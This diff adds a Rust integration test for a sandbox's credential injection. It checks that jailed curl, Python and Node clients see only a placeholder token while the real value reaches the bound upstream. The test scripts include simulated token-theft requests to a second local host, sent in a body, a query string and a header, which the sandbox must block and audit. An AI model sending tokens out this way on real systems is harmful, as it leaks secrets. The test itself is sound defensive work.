@@ -1,0 +1,234 @@
+//! `boundary run --credential` in a real jail with real clients (curl, Python `requests`,
+//! Node's `https`): the upstream receives the real value, the jailed process's environment and
+//! `/proc/self/environ` hold only the placeholder, and leak attempts to another allowed host
+//! (header, body, query) are refused and audited. Runs as root (namespaces); the jailed command
+//! runs as uid 65534.
+
+mod common;
+
+use std::convert::Infallible;
+use std::fmt::Write as _;
+use std::sync::{Arc, Mutex};
+
+use bytes::Bytes;
+use common::{As, TempDir, TestCa, TestServer, boundary, output, require_root, stderr, stdout};
+use http_body_util::BodyExt;
+use http_body_util::combinators::BoxBody;
+use hyper::body::Incoming;
+use hyper::{Request, Response};
+
+const REAL: &str = "real-api-token-7f3a9c";
+
+/// Records what arrived (path, query, headers, body) and answers `ok PATH`, so the jailed
+/// command never sees the value.
+async fn record(
+    request: Request<Incoming>,
+    seen: Arc<Mutex<Vec<String>>>,
+) -> Response<BoxBody<Bytes, Infallible>> {
+    let mut text = format!(
+        "path={} query={}\n",
+        request.uri().path(),
+        request.uri().query().unwrap_or_default()
+    );
+    for (name, value) in request.headers() {
+        let _ = writeln!(text, "{name}={}", String::from_utf8_lossy(value.as_bytes()));
+    }
+    let path = request.uri().path().to_owned();
+    let body = request
+        .into_body()
+        .collect()
+        .await
+        .map(http_body_util::Collected::to_bytes)
+        .unwrap_or_default();
+    let _ = writeln!(text, "body={}", String::from_utf8_lossy(&body));
+    seen.lock().unwrap().push(text);
+    Response::new(http_body_util::Full::new(Bytes::from(format!("ok {path}\n"))).boxed())
+}
+
+#[tokio::test]
+async fn boundary_run_credential_puts_the_value_in_and_the_jail_sees_only_a_placeholder() {
+    require_root();
+    let ca = TestCa::new();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let handler_seen = seen.clone();
+    let https = TestServer::serving(
+        Some(ca.server_config(&["api.test", "other.test"], common::Alpn::Http1)),
+        move |request| record(request, handler_seen.clone()),
+    )
+    .await;
+    let port = https.port();
+    let dir = TempDir::new("credentials");
+    let audit_file = dir.path().join("audit.jsonl");
+    let python = dir.path().join("client.py");
+    std::fs::write(
+        &python,
+        format!(
+            "import os, requests\n\
+             token = os.environ['API_TOKEN']\n\
+             r = requests.get('https://api.test:{port}/python', headers={{'x-note': 'from ' + token}})\n\
+             print('python', r.status_code, r.text.strip())\n\
+             r = requests.post('https://other.test:{port}/paste', data='stolen=' + token)\n\
+             print('python-leak', r.status_code)\n"
+        ),
+    )
+    .unwrap();
+    let node = dir.path().join("client.js");
+    std::fs::write(
+        &node,
+        format!(
+            "const https = require('https');\n\
+             const token = process.env.API_TOKEN;\n\
+             function get(host, path, headers) {{\n\
+               return new Promise((resolve) => {{\n\
+                 https.get({{host, port: {port}, path, headers}}, (res) => {{\n\
+                   let body = ''; res.on('data', (c) => body += c);\n\
+                   res.on('end', () => resolve([res.statusCode, body.trim()]));\n\
+                 }}).on('error', (e) => resolve([0, String(e)]));\n\
+               }});\n\
+             }}\n\
+             (async () => {{\n\
+               const [s, b] = await get('api.test', '/node', {{authorization: 'Bearer ' + token}});\n\
+               console.log('node', s, b);\n\
+               const [l] = await get('other.test', '/q?t=' + encodeURIComponent(token), {{}});\n\
+               console.log('node-leak', l);\n\
+             }})();\n"
+        ),
+    )
+    .unwrap();
+    for f in [&python, &node] {
+        std::fs::set_permissions(f, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
+    }
+    let script = format!(
+        "echo \"env=$API_TOKEN\"; \
+         cat /proc/self/environ | tr '\\000' '\\n' | grep -a '^API_TOKEN=' | sed 's/^/proc-/'; \
+         curl -sS https://api.test:{port}/curl; \
+         curl -sS -o /dev/null -w 'curl-leak %{{http_code}}\\n' -H \"x-api-key: $API_TOKEN\" https://other.test:{port}/x; \
+         /usr/bin/python3 {python}; \
+         node {node}",
+        python = python.display(),
+        node = node.display(),
+    );
+    let mut cmd = boundary(As::Nobody);
+    cmd.env("API_TOKEN", REAL).arg("run").args([
+        "--allow",
+        "domain=api.test",
+        "--allow",
+        "domain=other.test",
+        "--credential",
+        "domain=api.test env=API_TOKEN header=Authorization format=Bearer {value}",
+        "--resolve",
+        "api.test=127.0.0.1",
+        "--resolve",
+        "other.test=127.0.0.1",
+        "--upstream-ca",
+        ca.pem_path.to_str().unwrap(),
+        "--audit-file",
+        audit_file.to_str().unwrap(),
+        "--",
+        "sh",
+        "-c",
+        &script,
+    ]);
+    let out = output(cmd).await;
+    let text = stdout(&out);
+    assert!(out.status.success(), "{}\n{text}", stderr(&out));
+    assert!(
+        !text.contains(REAL),
+        "the jailed command never sees the value:\n{text}"
+    );
+    let env_line = text.lines().find(|l| l.starts_with("env=")).unwrap();
+    assert!(
+        env_line.starts_with("env=boundary-ph-") && env_line.ends_with("-api-token"),
+        "{text}"
+    );
+    let placeholder = env_line.trim_start_matches("env=");
+    assert!(
+        text.contains(&format!("proc-API_TOKEN={placeholder}")),
+        "/proc/self/environ shows the placeholder:\n{text}"
+    );
+    for line in [
+        "ok /curl",
+        "curl-leak 403",
+        "python 200 ok /python",
+        "python-leak 403",
+        "node 200 ok /node",
+        "node-leak 403",
+    ] {
+        assert!(text.contains(line), "{line:?} missing:\n{text}");
+    }
+
+    let seen = seen.lock().unwrap().clone();
+    assert_eq!(seen.len(), 3, "only the bound requests went out: {seen:#?}");
+    for request in &seen {
+        assert!(
+            request.contains(&format!("authorization=Bearer {REAL}\n")),
+            "{request}"
+        );
+        assert!(!request.contains("boundary-ph-"), "{request}");
+    }
+    assert!(
+        seen.iter()
+            .any(|r| r.contains(&format!("x-note=from {REAL}\n"))),
+        "the placeholder in another header is replaced: {seen:#?}"
+    );
+
+    let audit = std::fs::read_to_string(&audit_file).unwrap();
+    assert!(!audit.contains(REAL), "no real value in the audit trail");
+    assert!(!audit.contains(placeholder), "placeholders are redacted");
+    let records: Vec<serde_json::Value> = audit
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let injected = records
+        .iter()
+        .filter(|r| r["credential"] == "api-token")
+        .count();
+    assert_eq!(injected, 3, "{records:#?}");
+    let mut leaks: Vec<String> = records
+        .iter()
+        .filter(|r| r.get("leak").is_some())
+        .map(|r| format!("{} {}", r["leak"]["credential"], r["leak"]["where"]))
+        .collect();
+    leaks.sort();
+    assert_eq!(
+        leaks,
+        [
+            "\"api-token\" \"body\"",
+            "\"api-token\" \"header x-api-key\"",
+            "\"api-token\" \"query\""
+        ]
+    );
+}
+
+#[tokio::test]
+async fn a_credential_whose_variable_is_not_set_is_a_usage_error() {
+    require_root();
+    let mut cmd = boundary(As::Nobody);
+    cmd.env_remove("API_TOKEN").arg("run").args([
+        "--credential",
+        "domain=api.test env=API_TOKEN header=x-api-key",
+        "--",
+        "true",
+    ]);
+    let out = output(cmd).await;
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("API_TOKEN is not set in boundary run's environment"),
+        "{}",
+        stderr(&out)
+    );
+    let mut cmd = boundary(As::Nobody);
+    cmd.arg("run").args([
+        "--credential",
+        "domain=api.test header=x-api-key",
+        "--",
+        "true",
+    ]);
+    let out = output(cmd).await;
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        stderr(&out).contains("env=VAR is missing"),
+        "{}",
+        stderr(&out)
+    );
+}
